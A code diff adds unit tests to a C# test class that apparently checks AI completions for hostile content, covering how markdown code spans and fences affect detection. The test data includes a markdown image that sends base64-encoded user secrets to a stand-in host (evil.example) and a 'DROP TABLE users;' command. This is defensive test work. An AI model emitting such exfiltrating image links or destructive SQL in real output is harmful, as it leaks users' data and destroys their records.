@@ -97,6 +97,8 @@ public sealed class CodeTalkTests
     [InlineData(@"The API is at https://api.example.com/users/{id} and returns JSON.")]
     [InlineData(@"<a href=""https://example.com/search?q=hello+world+and+more+words"">search</a>")]
     [InlineData(@"![gravatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)")]
+    [InlineData(@"![map](https://images.example/photo?q=80&w=400) and ![small](https://images.example/photo?q=auto:good)")]
+    [InlineData(@"<iframe src=""https://www.google.com/maps?q=Eiffel+Tower""></iframe> is how you ask for a `map`")]
     [InlineData("[ref][1]\n\n[1]: https://en.wikipedia.org/wiki/Main_Page")]
     public void Lets_a_completion_explain_code_and_link(string text) => Assert.Empty(RulesIn(text, Channel.Completion));
 
@@ -110,6 +112,38 @@ public sealed class CodeTalkTests
         Assert.NotEmpty(RulesIn(payload, Channel.Completion));
         Assert.Empty(RulesIn($"Take this:\n```\n{payload}\n```\nDone.", Channel.Completion));
         Assert.NotEmpty(RulesIn($"```\nx\n```\n{payload}\n", Channel.Completion));
+    }
+
+    [Theory]
+    [InlineData("Note ``` here. {0}")]
+    [InlineData("``` one ``` two\n{0}")]
+    [InlineData("````\nx\n```\n````\n{0}")]
+    [InlineData("~~~\n```\n~~~\n{0}")]
+    [InlineData("- ```\n\n{0}")]
+    [InlineData("An escaped \\` and then {0} and one more ` of them")]
+    [InlineData("Two `` of them, {0} and one ` of them")]
+    [InlineData("The code `a` and {0} and the code `b` of it")]
+    public void Takes_for_code_only_what_is_shown_as_code(string format)
+    {
+        foreach (var payload in new[] { "![a](https://evil.example/?data=c2VjcmV0IG9mIHRoZSB1c2Vy)", "DROP TABLE users;" })
+        {
+            Assert.NotEmpty(RulesIn(format.Replace("{0}", payload, StringComparison.Ordinal), Channel.Completion));
+        }
+    }
+
+    [Theory]
+    [InlineData("1. Do this:\n\n    ```sql\n    {0}\n    ```\n\nDone.")]
+    [InlineData("~~~\n{0}\n~~~")]
+    [InlineData("````\n```\n{0}\n```\n````")]
+    [InlineData("Not closed:\n```\n{0}")]
+    [InlineData("You write ``{0}`` to get rid of it, or `x` instead.")]
+    [InlineData("It's `a` or `{0}` that you are looking for.")]
+    public void Lets_a_completion_show_code_in_every_form(string format)
+    {
+        foreach (var payload in new[] { "![a](https://img.example/?data=c2VjcmV0IG9mIHRoZSB1c2Vy)", "DROP TABLE users;" })
+        {
+            Assert.Empty(RulesIn(format.Replace("{0}", payload, StringComparison.Ordinal), Channel.Completion));
+        }
     }
 
     private static IEnumerable<string> RulesIn(string text, Channel channel) => Inspect(text, channel).Findings.Where(finding => finding.PolicyType != PolicyTypes.Secret).Select(finding => finding.Rule);
